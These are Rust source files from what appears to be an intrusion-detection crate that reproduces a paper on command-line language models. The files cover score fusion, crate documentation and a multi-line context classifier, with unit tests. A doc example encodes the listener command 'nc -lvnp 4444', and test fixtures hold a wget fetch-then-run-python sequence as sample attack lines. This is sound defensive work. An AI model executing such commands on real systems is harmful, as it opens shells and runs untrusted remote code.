/// assert!(fused[0] > fused[1]);
/// ```
///
/// # Panics
///
/// Panics under the same conditions as [`fuse_weighted`].
pub fn fuse(methods: &[&[f32]]) -> Vec<f32> {
    fuse_weighted(methods, &vec![1.0; methods.len()])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rank_normalize_orders_and_bounds() {
        let scores = [3.0f32, 1.0, 2.0];
        let q = rank_normalize(&scores);
        assert!(q[0] > q[2] && q[2] > q[1]);
        assert!(q.iter().all(|&x| (0.0..=1.0).contains(&x)));
        assert!((q[0] - 1.0).abs() < 1e-6);
    }

    #[test]
    fn ties_share_quantiles() {
        let scores = [5.0f32, 5.0, 1.0, 5.0];
        let q = rank_normalize(&scores);
        assert_eq!(q[0], q[1]);
        assert_eq!(q[1], q[3]);
        assert!(q[2] < q[0]);
    }

    #[test]
    fn degenerate_sizes() {
        assert!(rank_normalize(&[]).is_empty());
        assert_eq!(rank_normalize(&[42.0]), vec![1.0]);
    }

    #[test]
    fn fusion_is_scale_invariant() {
        // Method B is method A times 1000 — fusion must equal A's ranks.
        let a = [0.1f32, 0.9, 0.4, 0.7];
        let b: Vec<f32> = a.iter().map(|x| x * 1000.0).collect();
        let fused = fuse(&[&a, &b]);
        let solo = rank_normalize(&a);
        for (f, s) in fused.iter().zip(&solo) {
            assert!((f - s).abs() < 1e-6);
        }
    }

    #[test]
    fn complementary_methods_boost_agreed_sample() {
        // Method A is confident about sample 0, method B about sample 1;
        // both mildly rank sample 2 above sample 3. Fusion must keep
        // samples 0/1/2 above 3.
        let a = [1.0f32, 0.2, 0.6, 0.1];
        let b = [0.2f32, 1.0, 0.6, 0.1];
        let fused = fuse(&[&a, &b]);
        assert!(fused[0] > fused[3]);
        assert!(fused[1] > fused[3]);
        assert!(fused[2] > fused[3]);
    }

    #[test]
    fn weights_bias_toward_trusted_method() {
        let a = [1.0f32, 0.0]; // says sample 0
        let b = [0.0f32, 1.0]; // says sample 1
        let toward_a = fuse_weighted(&[&a, &b], &[3.0, 1.0]);
        assert!(toward_a[0] > toward_a[1]);
        let toward_b = fuse_weighted(&[&a, &b], &[1.0, 3.0]);
        assert!(toward_b[1] > toward_b[0]);
    }

    #[test]
    fn fusion_improves_top_precision_on_synthetic_split() {
        // 20 samples; 4 malicious (0..4). Each method detects half the
        // malicious set perfectly and is random-ish noise on the rest.
        let n = 20;
        let mut a = vec![0.0f32; n];
        let mut b = vec![0.0f32; n];
        a[0] = 1.0;
        a[1] = 0.9;
        b[2] = 1.0;
        b[3] = 0.9;
        // Distractors: each method has one false positive, ranked below
        // its true positives.
        a[10] = 0.85;
        b[11] = 0.85;
        let fused = fuse(&[&a, &b]);
        // Top-4 of the fused ranking should contain more true positives
        // than either method alone (which can only find 2).
        let mut order: Vec<usize> = (0..n).collect();
        order.sort_by(|&x, &y| fused[y].partial_cmp(&fused[x]).unwrap());
        let hits = order[..4].iter().filter(|&&i| i < 4).count();
        assert!(hits >= 3, "fused top-4 hits {hits}");
    }

    #[test]
    #[should_panic(expected = "same samples")]
    fn mismatched_lengths_panic() {
        let _ = fuse(&[&[1.0, 2.0][..], &[1.0][..]]);
    }

    #[test]
    #[should_panic(expected = "at least one method")]
    fn empty_fusion_panics() {
        let _ = fuse(&[]);
    }
}
