//! # cmdline-ids
//!
//! An intrusion-detection system built around a command-line language
//! model — a from-scratch Rust reproduction of *"Intrusion Detection at
//! Scale with the Assistance of a Command-line Language Model"*
//! (Lin, Guo & Chen, DSN 2024).
//!
//! The pipeline (the paper's Figure 1):
//!
//! 1. **Logging** — synthetic production traces from the [`corpus`] crate
//!    (the substitution for the paper's proprietary logs; see DESIGN.md).
//! 2. **Pre-processing** ([`preprocess`]) — a Bash parser rejects
//!    un-executable lines; a command-frequency filter drops typo'd
//!    command names (Figure 2).
//! 3. **Tokenization** — BPE ([`bpe`]).
//! 4. **Pre-training** ([`pipeline`]) — masked-language-model training of
//!    a transformer encoder ([`nn`]).
//! 5. **Detection** — four methods over the frozen/tuned model:
//!    * unsupervised PCA reconstruction error ([`anomaly::PcaDetector`]),
//!    * reconstruction-based tuning ([`tuning::ReconstructionTuner`],
//!      Eq. 2),
//!    * classification-based tuning, single- and multi-line
//!      ([`tuning::ClassificationTuner`], [`tuning::MultiLineClassifier`]),
//!    * retrieval ([`retrieval::Retrieval`], the label-noise-robust kNN).
//! 6. **Evaluation** ([`metrics`], [`eval`]) — PO@v, PO, PO&I at the
//!    threshold recalling ≈100% of in-box intrusions, plus the Section
//!    V-B F1 comparison against the commercial IDS.
//!
//! ```no_run
//! use cmdline_ids::pipeline::{IdsPipeline, PipelineConfig};
//! use rand::{rngs::StdRng, SeedableRng};
//!
//! let mut rng = StdRng::seed_from_u64(7);
//! let config = PipelineConfig::fast();
//! let dataset = config.generate_dataset(&mut rng);
//! let pipeline = IdsPipeline::pretrain(&config, &dataset, &mut rng);
//! let score = pipeline.encoder().embed_mean(&pipeline.encode("nc -lvnp 4444"));
//! assert_eq!(score.len(), config.model.hidden);
//! ```

pub mod embed;
pub mod engine;
pub mod ensemble;
pub mod eval;
pub mod metrics;
pub mod pipeline;
pub mod preprocess;
pub mod retrieval;
pub mod tuning;

pub use eval::{evaluate_scores, MethodEval};
pub use metrics::{
    calibrate_threshold, f1_comparison, precision_at_top, F1Comparison, ScoredSample,
};
pub use pipeline::{IdsPipeline, PipelineConfig};
pub use preprocess::{PreprocessStats, Preprocessor};
