//! Multi-line classification (paper Section IV-C).
//!
//! "for classifying a particular command-line operation, several command
//! lines in the most recent past from the same user are additionally
//! served for reference, if their execution time is not too long ago.
//! These command lines are concatenated with a shell command separator
//! `;` before being fed into the model." The paper uses three temporally
//! contiguous lines.

use crate::embed::{embed_ids, Pooling};
use crate::pipeline::IdsPipeline;
use crate::tuning::classification::TuneConfig;
use corpus::LogRecord;
use linalg::Matrix;
use nn::{AdamW, ClassificationHead};
use rand::Rng;
use std::collections::HashMap;

/// A context window: the target line preceded by recent same-user lines.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ContextWindow {
    /// Lines oldest-first; the last one is the target.
    pub lines: Vec<String>,
    /// Index of the target record in the source slice.
    pub target_index: usize,
}

impl ContextWindow {
    /// The window joined with the shell separator, as fed to the model.
    pub fn joined(&self) -> String {
        self.lines.join(" ; ")
    }
}

/// Builds one window per record: up to `width` lines of the same user
/// ending at the record, including earlier lines only when the time gap
/// to the previous line is at most `max_gap` seconds.
///
/// Records must be sorted by timestamp (corpus datasets are).
pub fn build_windows(records: &[LogRecord], width: usize, max_gap: u64) -> Vec<ContextWindow> {
    let width = width.max(1);
    // Per-user history of (timestamp, index).
    let mut history: HashMap<u32, Vec<usize>> = HashMap::new();
    let mut windows = Vec::with_capacity(records.len());
    for (i, r) in records.iter().enumerate() {
        let user_hist = history.entry(r.user).or_default();
        let mut chain: Vec<usize> = vec![i];
        let mut newest_ts = r.timestamp;
        for &j in user_hist.iter().rev() {
            if chain.len() >= width {
                break;
            }
            let ts = records[j].timestamp;
            if newest_ts.saturating_sub(ts) > max_gap {
                break;
            }
            chain.push(j);
            newest_ts = ts;
        }
        chain.reverse();
        windows.push(ContextWindow {
            lines: chain.iter().map(|&j| records[j].line.clone()).collect(),
            target_index: i,
        });
        user_hist.push(i);
    }
    windows
}

/// The multi-line classifier: frozen backbone, head over windowed input.
///
/// The head input concatenates the `[CLS]` embedding of the full
/// `;`-joined window with the `[CLS]` embedding of the target line
/// alone. At the paper's BERT-base scale, positional encoding lets the
/// model localize the target inside the window by itself; at this
/// reproduction's model scale the pooled window embedding cannot, and
/// windows whose *context* contains an attack would dominate the
/// prediction for a benign target ("attack shadows"). Handing the head
/// the target embedding explicitly restores the paper's semantics:
/// context "serves as reference" for classifying *the target line*.
#[derive(Debug)]
pub struct MultiLineClassifier {
    head: ClassificationHead,
    width: usize,
    max_gap: u64,
}

/// Builds the `(n, 2·hidden)` head input: window embedding ‖ target
/// embedding.
fn window_features(pipeline: &IdsPipeline, windows: &[ContextWindow]) -> Matrix {
    let window_seqs: Vec<Vec<u32>> = windows
        .iter()
        .map(|w| {
            let refs: Vec<&str> = w.lines.iter().map(|s| s.as_str()).collect();
            pipeline.encode_multi(&refs)
        })
        .collect();
    let target_seqs: Vec<Vec<u32>> = windows
        .iter()
        .map(|w| pipeline.encode(w.lines.last().expect("windows are non-empty")))
        .collect();
    let window_emb = embed_ids(pipeline.encoder(), &window_seqs, Pooling::Cls);
    let target_emb = embed_ids(pipeline.encoder(), &target_seqs, Pooling::Cls);
    let hidden = window_emb.cols();
    Matrix::from_fn(windows.len(), 2 * hidden, |r, c| {
        if c < hidden {
            window_emb[(r, c)]
        } else {
            target_emb[(r, c - hidden)]
        }
    })
}

impl MultiLineClassifier {
    /// Tunes on training records; `labels[i]` is the supervision label of
    /// `records[i]` (the target line's label, as in the paper).
    ///
    /// # Panics
    ///
    /// Panics if inputs are empty or lengths disagree.
    pub fn fit<R: Rng + ?Sized>(
        pipeline: &IdsPipeline,
        records: &[LogRecord],
        labels: &[bool],
        width: usize,
        max_gap: u64,
        config: &TuneConfig,
        rng: &mut R,
    ) -> Self {
        assert!(!records.is_empty(), "no records to tune on");
        assert_eq!(records.len(), labels.len(), "one label per record");
        let windows = build_windows(records, width, max_gap);
        let embeddings = window_features(pipeline, &windows);
        let idx = crate::tuning::classification::balance_indices(labels);
        let balanced =
            Matrix::from_fn(idx.len(), embeddings.cols(), |r, c| embeddings[(idx[r], c)]);
        let targets: Vec<u32> = idx.iter().map(|&i| labels[i] as u32).collect();
        let mut head = ClassificationHead::new(
            rng,
            2 * pipeline.encoder().config().hidden,
            config.inner_dim,
        );
        let mut optimizer = AdamW::new(config.lr, config.weight_decay);
        head.fit(
            rng,
            &balanced,
            &targets,
            config.epochs,
            config.batch_size,
            &mut optimizer,
        );
        MultiLineClassifier {
            head,
            width,
            max_gap,
        }
    }

    /// Context width (the paper uses 3).
    pub fn width(&self) -> usize {
        self.width
    }

    /// Scores every record of a test stream, windowing it the same way.
    pub fn score_records(&self, pipeline: &IdsPipeline, records: &[LogRecord]) -> Vec<f32> {
        if records.is_empty() {
            return Vec::new();
        }
        let windows = build_windows(records, self.width, self.max_gap);
        self.score_windows(pipeline, &windows)
    }

    /// Scores already-built context windows (callers that need the
    /// windows for other bookkeeping — e.g. window-content
    /// deduplication — build them once and reuse them here).
    pub fn score_windows(&self, pipeline: &IdsPipeline, windows: &[ContextWindow]) -> Vec<f32> {
        if windows.is_empty() {
            return Vec::new();
        }
        let embeddings = window_features(pipeline, windows);
        self.head.predict_proba(&embeddings)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use corpus::GroundTruth;

    fn rec(user: u32, t: u64, line: &str) -> LogRecord {
        LogRecord {
            user,
            timestamp: t,
            line: line.to_string(),
            truth: GroundTruth::Benign,
        }
    }

    #[test]
    fn windows_follow_same_user_within_gap() {
        let records = vec![
            rec(1, 100, "cd /tmp"),
            rec(2, 105, "ls"),
            rec(1, 110, "wget -c http://e/p -o python"),
            rec(1, 115, "python"),
        ];
        let windows = build_windows(&records, 3, 60);
        // The last record's window: all three user-1 lines.
        assert_eq!(
            windows[3].lines,
            vec!["cd /tmp", "wget -c http://e/p -o python", "python"]
        );
        // User 2's single line has no context.
        assert_eq!(windows[1].lines, vec!["ls"]);
    }

    #[test]
    fn window_width_is_respected() {
        let records: Vec<LogRecord> = (0..6)
            .map(|i| rec(1, 100 + i, &format!("cmd{i}")))
            .collect();
        let windows = build_windows(&records, 3, 60);
        assert_eq!(windows[5].lines, vec!["cmd3", "cmd4", "cmd5"]);
    }

    #[test]
    fn stale_context_is_excluded() {
        let records = vec![rec(1, 100, "old command"), rec(1, 100_000, "fresh command")];
        let windows = build_windows(&records, 3, 300);
        assert_eq!(windows[1].lines, vec!["fresh command"]);
    }

    #[test]
    fn gap_chains_between_consecutive_lines() {
        // 100 → 350 → 600: each consecutive gap is 250 ≤ 300, so the
        // whole chain is context even though 600−100 > 300.
        let records = vec![rec(1, 100, "a"), rec(1, 350, "b"), rec(1, 600, "c")];
        let windows = build_windows(&records, 3, 300);
        assert_eq!(windows[2].lines, vec!["a", "b", "c"]);
    }

    #[test]
    fn joined_uses_shell_separator() {
        let w = ContextWindow {
            lines: vec!["wget x".into(), "python".into()],
            target_index: 1,
        };
        assert_eq!(w.joined(), "wget x ; python");
    }

    #[test]
    fn one_window_per_record() {
        let records = vec![rec(1, 1, "a"), rec(2, 2, "b"), rec(1, 3, "c")];
        let windows = build_windows(&records, 3, 10);
        assert_eq!(windows.len(), 3);
        for (i, w) in windows.iter().enumerate() {
            assert_eq!(w.target_index, i);
            assert_eq!(w.lines.last().unwrap(), &records[i].line);
        }
    }
}
